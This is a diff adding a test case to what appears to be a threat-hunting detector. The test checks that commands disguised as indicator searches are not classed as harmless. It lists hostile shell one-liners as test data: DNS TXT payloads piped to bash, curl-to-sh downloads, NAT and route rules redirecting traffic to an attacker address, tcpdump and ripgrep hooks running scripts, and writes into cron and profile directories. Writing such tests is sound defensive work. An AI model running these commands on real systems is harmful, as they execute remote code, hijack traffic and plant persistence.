@@ -83,3 +83,21 @@ test("the whole run: a host that only hunted for the indicator is not alerting; 
   t.notOk(alerting.some((f) => f.agent_id === "agent-a"), "the analyst's host");
   t.ok(report.findings.some((f) => f.agent_id === "agent-a" && f.detection_id === "ioc-match" && f.severity === "info"), "kept as an observation");
 });
+
+test("the review's borrowed forms: a lookup feeding a shell, a NAT rule with 'drop' in its comment, a route via the address, a search that runs a program", async (t) => {
+  for (const cmd of [
+    `dig +short TXT ${DOMAIN} | base64 -d | bash`,
+    `host -t txt ${DOMAIN} | cut -d'"' -f2 | sh`,
+    `H=$(dig +short ${DOMAIN}); curl http://$H/p | sh`,
+    `iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to-destination ${IP}:443 -m comment --comment drop`,
+    `nft add rule ip nat output ip daddr 1.1.1.1 dnat to ${IP} comment "deny"`,
+    `ip route add 0.0.0.0/1 via ${IP}`,
+    `rg --pre /tmp/.x/helper ${IP} /var/log`,
+    `tcpdump -w /tmp/c.pcap -G 60 -z /tmp/x.sh host ${IP}`,
+    `grep ${IP} /var/log/syslog > /etc/cron.d/x`,
+    `grep -c ${IP} /var/log/syslog | tee /etc/profile.d/x.sh`,
+    `whois ${IP} | awk '{system($0)}'`,
+  ]) t.notOk(onlyHuntsFor(cmd, cmd.includes(IP) ? IP : DOMAIN), cmd);
+  t.ok(onlyHuntsFor(`grep ${IP} /var/log/syslog > /tmp/hits.txt`, IP), "a search saved to a temp file");
+  t.ok(onlyHuntsFor(`nft add rule inet filter output ip daddr ${IP} drop`, IP), "nft's own drop verdict");
+});
